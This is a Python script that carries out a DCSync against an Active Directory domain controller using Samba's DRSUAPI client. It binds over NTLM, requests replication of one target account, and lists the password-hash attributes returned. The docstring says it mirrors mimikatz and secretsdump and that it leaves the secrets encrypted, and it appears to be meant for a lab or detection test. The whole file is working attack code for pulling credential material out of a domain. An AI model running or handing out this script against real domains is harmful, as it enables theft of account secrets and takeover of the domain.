#!/usr/bin/python3
"""DCSync one account with Samba's own DRSUAPI client (python3-samba).

Usage (inside the client netns, e.g. via in-client.sh; needs /usr/bin/python3
because the samba bindings are built for it):

  /usr/bin/python3 samba_dcsync.py DC_HOST DOMAIN USER PASSWORD TARGET_DN

RPC sequence over ncacn_ip_tcp (drsuapi endpoint, NTLM, packet privacy):
DsBind, then DsGetNCChanges(level 8, extended op EXOP_REPL_OBJ) for
TARGET_DN -- the same calls as mimikatz lsadump::dcsync or impacket
secretsdump -just-dc-user.  Prints which secret attributes came back; they
stay encrypted, nothing is decrypted or stored.
"""

import sys
import uuid

from samba import drs_utils
from samba.credentials import DONT_USE_KERBEROS, Credentials
from samba.dcerpc import drsuapi, misc
from samba.param import LoadParm


def main() -> None:
    host, domain, user, password, target_dn = sys.argv[1:6]
    lp = LoadParm()
    lp.load_default()
    creds = Credentials()
    creds.guess(lp)
    creds.set_domain(domain)
    creds.set_username(user)
    creds.set_password(password)
    creds.set_kerberos_state(DONT_USE_KERBEROS)  # NTLM: decryptable with the lab password

    drs, handle, info = drs_utils.drsuapi_connect(host, lp, creds)  # ncacn_ip_tcp:HOST[seal]
    print(f"DsBind ok; server extensions 0x{info:08x}" if isinstance(info, int) else "DsBind ok")

    req = drsuapi.DsGetNCChangesRequest8()
    req.destination_dsa_guid = misc.GUID(str(uuid.uuid4()))
    req.source_dsa_invocation_id = misc.GUID("00000000-0000-0000-0000-000000000000")
    nc = drsuapi.DsReplicaObjectIdentifier()
    nc.dn = target_dn
    req.naming_context = nc
    hwm = drsuapi.DsReplicaHighWaterMark()
    hwm.tmp_highest_usn = 0
    hwm.reserved_usn = 0
    hwm.highest_usn = 0
    req.highwatermark = hwm
    req.uptodateness_vector = None
    req.replica_flags = (
        drsuapi.DRSUAPI_DRS_INIT_SYNC | drsuapi.DRSUAPI_DRS_WRIT_REP | drsuapi.DRSUAPI_DRS_NEVER_SYNCED
    )
    req.max_object_count = 1
    req.max_ndr_size = 402116
    req.extended_op = drsuapi.DRSUAPI_EXOP_REPL_OBJ
    req.fsmo_info = 0
    req.partial_attribute_set = None
    req.partial_attribute_set_ex = None
    req.mapping_ctr.num_mappings = 0
    req.mapping_ctr.mappings = None

    level, ctr = drs.DsGetNCChanges(handle, 8, req)
    print(
        f"DsGetNCChanges level {level}: {ctr.object_count} object(s), "
        f"extended_ret {getattr(ctr, 'extended_ret', -1)}"
    )
    secret = {
        drsuapi.DRSUAPI_ATTID_unicodePwd: "unicodePwd",
        drsuapi.DRSUAPI_ATTID_ntPwdHistory: "ntPwdHistory",
        drsuapi.DRSUAPI_ATTID_dBCSPwd: "dBCSPwd",
        drsuapi.DRSUAPI_ATTID_lmPwdHistory: "lmPwdHistory",
        drsuapi.DRSUAPI_ATTID_supplementalCredentials: "supplementalCredentials",
    }
    obj = ctr.first_object
    while obj is not None:
        o = obj.object
        print("object:", o.identifier.dn, "attributes:", o.attribute_ctr.num_attributes)
        for a in o.attribute_ctr.attributes:
            if a.attid in secret:
                n = a.value_ctr.num_values
                size = len(bytes(a.value_ctr.values[0].blob)) if n else 0
                print(f"  secret attribute {secret[a.attid]} present ({n} value(s), {size} bytes, encrypted)")
        obj = obj.next_object


if __name__ == "__main__":
    main()
